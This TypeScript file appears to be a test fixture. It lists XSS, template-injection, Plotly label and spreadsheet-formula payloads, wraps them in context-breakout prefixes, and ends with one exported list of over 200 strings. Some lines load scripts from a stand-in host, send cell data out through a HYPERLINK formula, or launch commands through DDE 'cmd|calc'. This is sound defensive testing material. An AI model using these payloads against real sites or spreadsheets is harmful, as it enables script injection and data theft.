/** Markup that would run `hacked = 1`, or change the page, where a text were taken for markup. */
const MARKUP = [
  '<img src=x onerror=hacked=1>',
  '<img src="x" onerror="window.hacked=1"/>',
  '<svg onload=hacked=1>',
  '<svg><script>hacked=1</script></svg>',
  '<script>hacked=1</script>',
  '<script src="//elsewhere.example/x.js"></script>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<object data="javascript:hacked=1"></object>',
  '<embed src="//elsewhere.example/x">',
  '<details open ontoggle=hacked=1>x</details>',
  '<input autofocus onfocus=hacked=1>',
  '<video><source onerror=hacked=1></video>',
  '<body onload=hacked=1>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//elsewhere.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//elsewhere.example">',
  '<base href="//elsewhere.example/">',
  '<form action=//elsewhere.example><button>x</button></form>',
  '<math><mtext><img src=x onerror=hacked=1></mtext></math>',
  '<template><img src=x onerror=hacked=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=hacked=1>">',
  '&lt;img src=x onerror=hacked=1&gt;',
  '&#60;img src=x onerror=hacked=1&#62;',
  '\\u003cimg src=x onerror=hacked=1\\u003e',
  'javascript:hacked=1',
  'data:text/html,<script>hacked=1</script>',
  '{{constructor.constructor("hacked=1")()}}',
  '${hacked=1}',
  '{@html "<img src=x onerror=hacked=1>"}',
];

/** What Plotly would draw as something else than its text. */
const PSEUDO_MARKUP = [
  '<a href="https://elsewhere.example/">more</a>',
  '<a href="javascript:hacked=1" target="_top">more</a>',
  '<b>bold</b>',
  '<i>slanted</i>',
  '<br>',
  '<sub>low</sub><sup>high</sup>',
  '<span style="fill:red;font-size:99px">x</span>',
  '%{customdata}',
  '%{x|<b>%B</b>}',
  '<extra>x</extra>',
  '$\\href{javascript:hacked=1}{x}$',
  '&nbsp;&copy;&amp;',
];

/** What a spreadsheet would run. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.example/?"&A1,"more")',
  "=cmd|' /C calc'!A0",
  '+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '=IMPORTXML("https://elsewhere.example/","//a")',
  '"=1+1',
  "'=1+1",
  '=WEBSERVICE("https://elsewhere.example/")',
  ';=1+1',
  '%0A=1+1',
];

/** Ways to break out of whatever stands around a text. */
const DRESSES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => `</title></textarea></style>${text}`,
];

/** Each markup in each dress, and the formulas: more than 200. */
export const PAYLOADS: readonly string[] = [
  ...[...MARKUP, ...PSEUDO_MARKUP].flatMap((text) => DRESSES.map((dress) => dress(text))),
  ...FORMULAS,
];
